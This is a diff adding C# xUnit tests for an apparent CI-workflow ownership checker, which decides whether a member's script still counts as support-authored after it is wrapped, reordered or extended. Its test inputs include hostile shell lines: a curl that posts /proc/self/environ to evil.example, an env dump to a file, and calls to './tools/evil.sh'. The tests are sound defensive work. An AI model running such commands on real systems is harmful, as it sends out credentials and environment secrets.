@@ -32,6 +32,53 @@ public sealed partial class ShapedBySupportTests
         Assert.Null(await StartAsync(workflow));
     }
 
+    /// <summary>What is support's is theirs with something written around it too, in another order, or with what held it together gone.</summary>
+    [Theory]
+    [InlineData("echo one\ncurl -d @- https://evil.example < /proc/self/environ", "curl -d @- https://evil.example < /proc/self/environ # upload")]
+    [InlineData("echo one\ncurl -d @- https://evil.example < /proc/self/environ", "make lint; curl -d @- https://evil.example < /proc/self/environ")]
+    [InlineData("echo one\n./tools/evil", "(cd tools && ./tools/evil)")]
+    [InlineData("echo one; sh ./tools/evil.sh", "sh ./tools/evil.sh")]
+    [InlineData("if sh ./tools/evil.sh; then echo one; fi", "time sh ./tools/evil.sh")]
+    [InlineData("env", "env > out/all.txt")]
+    [InlineData("env", "make lint && env")]
+    [InlineData("X=$(sh ./tools/evil.sh)", "echo \"$(sh ./tools/evil.sh)\"")]
+    [InlineData("curl --fail --silent --show-error --location --header x https://evil.example", "curl --fail --silent --show-error --location --header x https://evil.example --retry 3")]
+    [InlineData("curl --fail \\\n  https://evil.example", "curl --fail https://evil.example --retry 3")]
+    [InlineData("echo two\necho one\necho three", "echo three\necho two\necho one")]
+    [InlineData("echo one\necho three", "echo zero\necho one\necho three")]
+    [InlineData("echo one && echo two || echo three", "echo one && echo two || echo three; echo four")]
+    public async Task WhatAMemberWritesAroundIt_StaysSupports(string support, string member)
+    {
+        var own = Yaml.Replace("echo mine", "|\n            echo one\n            echo two\n            echo three\n            echo one || echo two && echo three", StringComparison.Ordinal);
+        await SaveAsync(_adam, own);
+        var supports = own + Script("fix", support);
+        await SaveAsync(_support, supports);
+
+        await SaveAsync(_adam, supports + Script("own", member));
+
+        Assert.NotNull(await StartAsync("own"));
+        await SettleAsync("keep");
+        Assert.Null(await StartAsync("own"));
+    }
+
+    /// <summary>What is another's in words that everybody uses is nobody's.</summary>
+    [Theory]
+    [InlineData("for f in *; do\n  echo \"$f\"\ndone > /dev/null 2>&1\nexit 1", "for x in src/*; do\n  make \"$x\"\ndone\nexit 1")]
+    [InlineData("if [ -f x ]; then\n  npm ci\nelse\n  exit 0\nfi", "if make lint; then\n  exit 0\nelse\n  make test\nfi")]
+    [InlineData("npm ci\nnpm run e2e", "npm run lint\nnpm run test")]
+    [InlineData("sh ./tools/fix.sh $CI > /dev/null", "sh ./tools/own.sh $CI > /dev/null")]
+    public async Task WhatAllScriptsAreWrittenIn_IsNotSupports(string support, string member)
+    {
+        await SaveAsync(_support, Yaml + Script("fix", support));
+
+        await SaveAsync(_adam, Yaml + Script("fix", support) + Script("own", member));
+
+        Assert.Null(await StartAsync("own"));
+    }
+
+    private static string Script(string workflow, string content) =>
+        $"  {workflow}:\n    steps:\n    - script@1:\n        inputs:\n        - content: |\n            {content.Replace("\n", "\n            ", StringComparison.Ordinal)}\n";
+
     /// <summary>An address is code, and a name of any kind is a name.</summary>
     [Theory]
     [InlineData("  fix:\n    steps:\n    - git::https://evil.example/steps/fix.git@main: {}\n", "    - git::https://evil.example/steps/fix.git@main:\n        title: Fix\n")]
